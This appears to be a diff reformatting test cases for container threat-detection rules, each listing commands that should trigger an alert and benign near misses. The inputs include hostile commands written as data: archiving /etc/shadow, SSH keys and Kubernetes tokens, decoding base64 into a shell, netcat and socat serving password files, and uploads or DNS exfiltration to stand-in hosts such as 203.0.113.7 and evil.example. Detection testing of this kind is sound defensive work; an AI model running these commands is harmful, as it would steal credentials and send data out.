@@ -84,8 +84,10 @@ CASES: list[PackCase] = [
             v("tar of /etc", exec_("tar -zcvf /tmp/etc.tgz /etc")),
             v("tar of home", exec_("tar -cvzf /root/data.tar.gz /root/")),
             v("zip of ssh keys", exec_("zip -r /tmp/k.zip /home/app/.ssh")),
-            v("tar relative in /etc (cd /etc && tar -zcvf - *)", exec_("tar -zcvf - hosts passwd group")
-              | {"proc.cwd": "/etc"}),
+            v(
+                "tar relative in /etc (cd /etc && tar -zcvf - *)",
+                exec_("tar -zcvf - hosts passwd group") | {"proc.cwd": "/etc"},
+            ),
             v("gzip -k of a file in /root", exec_("gzip -k /root/victim-gzip.txt")),
             v(
                 "python gzip of /etc/passwd",
@@ -96,9 +98,14 @@ CASES: list[PackCase] = [
             ),
             v(
                 "python zipfile of /etc/passwd",
-                exec_("python3 -c from zipfile import ZipFile; ZipFile('/tmp/p.zip', mode='w').write('/etc/passwd')"),
+                exec_(
+                    "python3 -c from zipfile import ZipFile; ZipFile('/tmp/p.zip', mode='w').write('/etc/passwd')"
+                ),
             ),
-            v("perl Archive::Tar of shadow", exec_("perl -MArchive::Tar -e Archive::Tar->create_archive('/tmp/s.tar',0,'/etc/shadow')")),
+            v(
+                "perl Archive::Tar of shadow",
+                exec_("perl -MArchive::Tar -e Archive::Tar->create_archive('/tmp/s.tar',0,'/etc/shadow')"),
+            ),
             v("the service account token", exec_("tar czf /tmp/t.tgz /var/run/secrets/kubernetes.io")),
         ],
         near_misses=[
@@ -125,11 +132,17 @@ CASES: list[PackCase] = [
             v("cpio -o", exec_("cpio -ov", file_out("/tmp/a.cpio"))),
         ],
         near_misses=[
-            v("log rotation: gzip of a rotated log", exec_("gzip /var/log/app/access.log.1", ancestors=["sh", "crond"])),
+            v(
+                "log rotation: gzip of a rotated log",
+                exec_("gzip /var/log/app/access.log.1", ancestors=["sh", "crond"]),
+            ),
             v("log rotation by name elsewhere", exec_("gzip -f /srv/logs/app.log.2")),
             v("numbered rotation outside /var/log", exec_("gzip /srv/out/app.out.3")),
             v("dated rotation", exec_("xz /srv/out/access-20261207")),
-            v("logrotate's compressor", exec_("gzip", {**PIPE_IN, **file_out("/srv/x.1.gz")}, ancestors=["logrotate"])),
+            v(
+                "logrotate's compressor",
+                exec_("gzip", {**PIPE_IN, **file_out("/srv/x.1.gz")}, ancestors=["logrotate"]),
+            ),
             v("gunzip", exec_("gzip -d /tmp/a.gz")),
             v("zcat", exec_("gzip -cd /tmp/a.gz")),
             v("xz -t", exec_("xz -t /tmp/a.xz")),
@@ -145,15 +158,33 @@ CASES: list[PackCase] = [
         "Data Archived by Interpreter in Container",
         fires=[
             v("python bz2", exec_("python3 -c import bz2;c=bz2.compress(open('/srv/d','rb').read())")),
-            v("python tarfile", exec_("python3 -c import tarfile; t = tarfile.open('/tmp/x.tar','w'); t.add('/srv/data')")),
-            v("python shutil.make_archive", exec_("python3 -c import shutil; shutil.make_archive('/tmp/a', 'zip', '/srv')")),
+            v(
+                "python tarfile",
+                exec_("python3 -c import tarfile; t = tarfile.open('/tmp/x.tar','w'); t.add('/srv/data')"),
+            ),
+            v(
+                "python shutil.make_archive",
+                exec_("python3 -c import shutil; shutil.make_archive('/tmp/a', 'zip', '/srv')"),
+            ),
             v("perl IO::Compress", exec_("perl -MIO::Compress::Gzip=gzip -e gzip '/srv/d' => '/tmp/d.gz'")),
-            v("ruby Zlib", exec_("ruby -rzlib -e Zlib::GzipWriter.open('/tmp/d.gz'){|g| g.write File.read('/srv/d')}")),
-            v("node zlib", exec_("node -e require('fs').writeFileSync('/tmp/d.gz', require('zlib').gzipSync('x'))")),
-            v("a python script writing a .tar.gz", open_("/tmp/collect.tar.gz", "python3 /tmp/collect.py", WRITE)),
+            v(
+                "ruby Zlib",
+                exec_("ruby -rzlib -e Zlib::GzipWriter.open('/tmp/d.gz'){|g| g.write File.read('/srv/d')}"),
+            ),
+            v(
+                "node zlib",
+                exec_("node -e require('fs').writeFileSync('/tmp/d.gz', require('zlib').gzipSync('x'))"),
+            ),
+            v(
+                "a python script writing a .tar.gz",
+                open_("/tmp/collect.tar.gz", "python3 /tmp/collect.py", WRITE),
+            ),
         ],
         near_misses=[
-            v("pip writing an sdist", open_("/tmp/pip-req-1x/pkg-1.0.tar.gz", "python3 -m pip install pkg", WRITE)),
+            v(
+                "pip writing an sdist",
+                open_("/tmp/pip-req-1x/pkg-1.0.tar.gz", "python3 -m pip install pkg", WRITE),
+            ),
             v("an app reading an archive", open_("/srv/data.tar.gz", "python3 app.py")),
             v("the entrypoint app writing a .gz", open_("/srv/out/d.gz", "python3 app.py", WRITE, vpid=1)),
             v("python without archive code", exec_("python3 -c print(1)")),
@@ -169,7 +200,7 @@ CASES: list[PackCase] = [
             v("as pid 1 (podman run img sh -c)", pid1(f"sh -c echo {ENC} | base64 -d | /bin/sh")),
             v("xxd -r -p | sh", sh_c("echo 6964 | xxd -r -p | sh")),
             v("openssl base64 -d | bash", sh_c(f"echo {ENC} | openssl base64 -d | bash")),
-            v("bash -c \"$(... base64 -d)\"", sh_c(f"bash -c \"$(echo {ENC} | base64 -d)\"")),
+            v('bash -c "$(... base64 -d)"', sh_c(f'bash -c "$(echo {ENC} | base64 -d)"')),
             v("eval $(... base64 -d)", sh_c(f"eval $(echo {ENC} | base64 -d)", shell="bash")),
             v("source <(... base64 -d)", sh_c(f"source <(echo {ENC} | base64 -d)", shell="bash")),
             v("decoded python piped to python3", sh_c(f"echo {ENC} | base64 -d | python3")),
@@ -180,15 +211,27 @@ CASES: list[PackCase] = [
                     "subprocess.call(c, shell=True)"
                 ),
             ),
-            v("python exec(b64decode)", exec_("python3 -c import base64;exec(base64.b64decode('cHJpbnQoMSk='))")),
-            v("perl eval(decode_base64)", exec_("perl -MMIME::Base64 -e eval(decode_base64('cHJpbnQgMQ=='))")),
+            v(
+                "python exec(b64decode)",
+                exec_("python3 -c import base64;exec(base64.b64decode('cHJpbnQoMSk='))"),
+            ),
+            v(
+                "perl eval(decode_base64)",
+                exec_("perl -MMIME::Base64 -e eval(decode_base64('cHJpbnQgMQ=='))"),
+            ),
             v("php eval(base64_decode)", exec_("php -r eval(base64_decode('ZWNobyAxOw=='));")),
-            v("node eval(Buffer.from(..,'base64'))", exec_("node -e eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString())")),
+            v(
+                "node eval(Buffer.from(..,'base64'))",
+                exec_("node -e eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString())"),
+            ),
         ],
         near_misses=[
             v("base64 -d to the terminal", sh_c(f"echo {ENC} | base64 -d")),
             v("encoding piped on", sh_c("echo hi | base64 | tr -d =")),
-            v("python decoding and printing", exec_("python3 -c import base64;print(base64.b64decode('aGk='))")),
+            v(
+                "python decoding and printing",
+                exec_("python3 -c import base64;print(base64.b64decode('aGk='))"),
+            ),
             v("on the host", exec_(f"sh -c echo {ENC} | base64 -d | bash", where=HOST)),
             v("a health check", sh_c("wget -qO- localhost:8080")),
         ],
@@ -208,7 +251,10 @@ CASES: list[PackCase] = [
             ),
             v(
                 "python decoding, bash -s reading",
-                exec_("python3 -c import base64,sys;sys.stdout.write(base64.b64decode(sys.argv[1]).decode()) aWQ=", at=3.0),
+                exec_(
+                    "python3 -c import base64,sys;sys.stdout.write(base64.b64decode(sys.argv[1]).decode()) aWQ=",
+                    at=3.0,
+                ),
                 exec_("bash -s", PIPE_IN, at=3.5),
             ),
         ],
@@ -288,11 +334,17 @@ CASES: list[PackCase] = [
             v("xxd -r -p", exec_("xxd -r -p /tmp/x.hex")),
             v("openssl base64 -d", exec_("openssl base64 -d -in /tmp/x")),
             v("openssl enc -base64 -d", exec_("openssl enc -base64 -d -in /tmp/x")),
-            v("python b64decode", exec_("python3 -c import base64;dec=base64.b64decode(\"aGk=\");print(dec.decode())")),
-            v("python from base64 import b64decode as d", exec_("python3 -c from base64 import b64decode as d;print(d('aGk='))")),
+            v(
+                "python b64decode",
+                exec_('python3 -c import base64;dec=base64.b64decode("aGk=");print(dec.decode())'),
+            ),
+            v(
+                "python from base64 import b64decode as d",
+                exec_("python3 -c from base64 import b64decode as d;print(d('aGk='))"),
+            ),
             v("python bytes.fromhex", exec_("python3 -c print(bytes.fromhex('6869'))")),
             v("perl decode_base64", exec_("perl -le use MIME::Base64;print(decode_base64('aGk='));")),
-            v("perl pack H*", exec_("perl -e print pack(\"H*\", \"6869\")")),
+            v("perl pack H*", exec_('perl -e print pack("H*", "6869")')),
             v("ruby unpack1('m')", exec_("ruby -e puts 'aGk='.unpack1('m')")),
             v("printf of hex escapes (bash -c)", sh_c("printf '\\x69\\x64\\x0a'", shell="bash")),
             v("/usr/bin/printf of octal escapes", exec_("printf \\151\\144")),
@@ -318,7 +370,10 @@ CASES: list[PackCase] = [
             v("a script", exec_("sh /srv/run.sh", PIPE_IN)),
             v("podman exec -i c sh", exec_("sh", PIPE_IN, ancestors=["runc", "conmon"])),
             v("the entrypoint", exec_("sh", PIPE_IN, vpid=1, ancestors=["conmon"])),
-            v("stdin a terminal", exec_("bash", {"proc.stdin.type": "file", "proc.stdin.name": "/dev/pts/0"})),
+            v(
+                "stdin a terminal",
+                exec_("bash", {"proc.stdin.type": "file", "proc.stdin.name": "/dev/pts/0"}),
+            ),
             v("on the host", exec_("sh", PIPE_IN, where=HOST)),
         ],
     ),
@@ -326,18 +381,30 @@ CASES: list[PackCase] = [
     PackCase(
         "Ad-hoc File Server Started in Container",
         fires=[
-            v("python3 -m http.server in /tmp", exec_("python3 -m http.server 9090", {"proc.cwd": "/tmp"}, ancestors=["sh", "conmon"])),
+            v(
+                "python3 -m http.server in /tmp",
+                exec_("python3 -m http.server 9090", {"proc.cwd": "/tmp"}, ancestors=["sh", "conmon"]),
+            ),
             v("python -m SimpleHTTPServer", exec_("python2 -m SimpleHTTPServer 1337")),
             v("php -S", exec_("php -S 0.0.0.0:8000 -t /")),
             v("ruby -run -e httpd", exec_("ruby -run -e httpd . -p 8000")),
             v("busybox httpd", exec_("busybox httpd -f -p 8000 -h /")),
             v("nc -l with a file on stdin", exec_("nc -lvp 4444", file_in("/etc/passwd"))),
             v("socat listening with a file", exec_("socat TCP-LISTEN:8000,fork,reuseaddr FILE:/etc/shadow")),
-            v("an http.server as pid 1 serving /root", pid1("python3 -m http.server", fields={"proc.cwd": "/root"})),
+            v(
+                "an http.server as pid 1 serving /root",
+                pid1("python3 -m http.server", fields={"proc.cwd": "/root"}),
+            ),
         ],
         near_misses=[
-            v("the entrypoint web server", pid1("python3 -m http.server 8080", fields={"proc.cwd": "/srv/www"})),
-            v("started by the entrypoint script", exec_("python3 -m http.server 8080", {"proc.cwd": "/srv"}, ancestors=["entrypoint.sh"])),
+            v(
+                "the entrypoint web server",
+                pid1("python3 -m http.server 8080", fields={"proc.cwd": "/srv/www"}),
+            ),
+            v(
+                "started by the entrypoint script",
+                exec_("python3 -m http.server 8080", {"proc.cwd": "/srv"}, ancestors=["entrypoint.sh"]),
+            ),
             v("nc -l with stdin /dev/null", exec_("nc -l 4444", NULL_IN)),
             v("a python app", exec_("python3 /srv/app.py")),
             v("on the host", exec_("python3 -m http.server", where=HOST)),
@@ -353,7 +420,10 @@ CASES: list[PackCase] = [
             v("curl -d @- from a pipe", exec_("curl -X POST -d @- http://203.0.113.7/", PIPE_IN)),
             v("curl -sSF (clustered)", exec_("curl -sSFf=@/tmp/a http://203.0.113.7/")),
             v("wget --post-file", exec_("wget --post-file=/tmp/artifact --timeout=5 https://example.com/")),
-            v("wget --post-data", exec_("wget --post-data=msg=secret --timeout=5 https://example.com/ --delete-after")),
+            v(
+                "wget --post-data",
+                exec_("wget --post-data=msg=secret --timeout=5 https://example.com/ --delete-after"),
+            ),
             v("tftp put", exec_("tftp 203.0.113.7 -c put /tmp/a")),
             v("as pid 1", pid1("curl -T /tmp/a http://203.0.113.7/")),
         ],
@@ -361,7 +431,7 @@ CASES: list[PackCase] = [
             v("a health check", exec_("wget -qO- http://127.0.0.1:8080/")),
             v("curl -f localhost", exec_("curl -f localhost")),
             v("client loop GET", exec_("curl -fsSL http://api:8080/v1/items -o /dev/null")),
-            v("JSON POST inline", exec_("curl -H Content-Type:application/json -d {\"a\":1} http://api:8080/")),
+            v("JSON POST inline", exec_('curl -H Content-Type:application/json -d {"a":1} http://api:8080/')),
             v("on the host", exec_("curl -T /tmp/a http://x/", where=HOST)),
         ],
     ),
@@ -378,7 +448,10 @@ CASES: list[PackCase] = [
             v("nc with a file on stdin", exec_("nc 203.0.113.7 4444", file_in("/etc/passwd"))),
             v("cat | nc", exec_("nc -q0 203.0.113.7 4444", PIPE_IN)),
             v("socat file to tcp", exec_("socat FILE:/etc/passwd TCP:203.0.113.7:4444")),
-            v("openssl s_client -quiet fed a pipe", exec_("openssl s_client -quiet -connect 203.0.113.7:443", PIPE_IN)),
+            v(
+                "openssl s_client -quiet fed a pipe",
+                exec_("openssl s_client -quiet -connect 203.0.113.7:443", PIPE_IN),
+            ),
             v("sftp", exec_("sftp -b /tmp/batch u@203.0.113.7")),
         ],
         near_misses=[
@@ -394,13 +467,28 @@ CASES: list[PackCase] = [
     PackCase(
         "Encoded Data Sent over Network in Container",
         fires=[
-            v("dig with a base64 label", exec_("dig @8.8.8.8 -p 53 dGhpcyBpcyBhIHNlY3JldCBpbmZvCg==.google.com")),
-            v("dig $(... | base64) on the -c line", sh_c("dig @8.8.8.8 -p 53 $(echo \"secret\" | base64).google.com", shell="bash")),
-            v("dig of xxd -p labels in a loop", sh_c("xxd -p input_file > d.hex; for data in `cat d.hex`; do dig $data.domain; done")),
-            v("nslookup of a long hex label", exec_("nslookup 54686973206973206120736563726574.evil.example")),
+            v(
+                "dig with a base64 label",
+                exec_("dig @8.8.8.8 -p 53 dGhpcyBpcyBhIHNlY3JldCBpbmZvCg==.google.com"),
+            ),
+            v(
+                "dig $(... | base64) on the -c line",
+                sh_c('dig @8.8.8.8 -p 53 $(echo "secret" | base64).google.com', shell="bash"),
+            ),
+            v(
+                "dig of xxd -p labels in a loop",
+                sh_c("xxd -p input_file > d.hex; for data in `cat d.hex`; do dig $data.domain; done"),
+            ),
+            v(
+                "nslookup of a long hex label",
+                exec_("nslookup 54686973206973206120736563726574.evil.example"),
+            ),
             v("curl to a base64 host", exec_("curl -XPOST MTExLTExLTExMTE=.redcanary.com")),
-            v("echo | base64 then curl (-c line)", sh_c("echo -n 111-11-1111 | base64\ncurl -XPOST MTExLTExLTExMTE=.redcanary.com")),
-            v("curl with base64 of a file", sh_c("curl -d \"$(base64 -w0 /etc/passwd)\" http://203.0.113.7/")),
+            v(
+                "echo | base64 then curl (-c line)",
+                sh_c("echo -n 111-11-1111 | base64\ncurl -XPOST MTExLTExLTExMTE=.redcanary.com"),
+            ),
+            v("curl with base64 of a file", sh_c('curl -d "$(base64 -w0 /etc/passwd)" http://203.0.113.7/')),
             v("ping $(whoami).domain", sh_c("ping -c1 $(whoami).exfil.example")),
             v("host as pid 1", pid1("host 4a6f686e20446f65206973206120736563726574.example.net")),
         ],
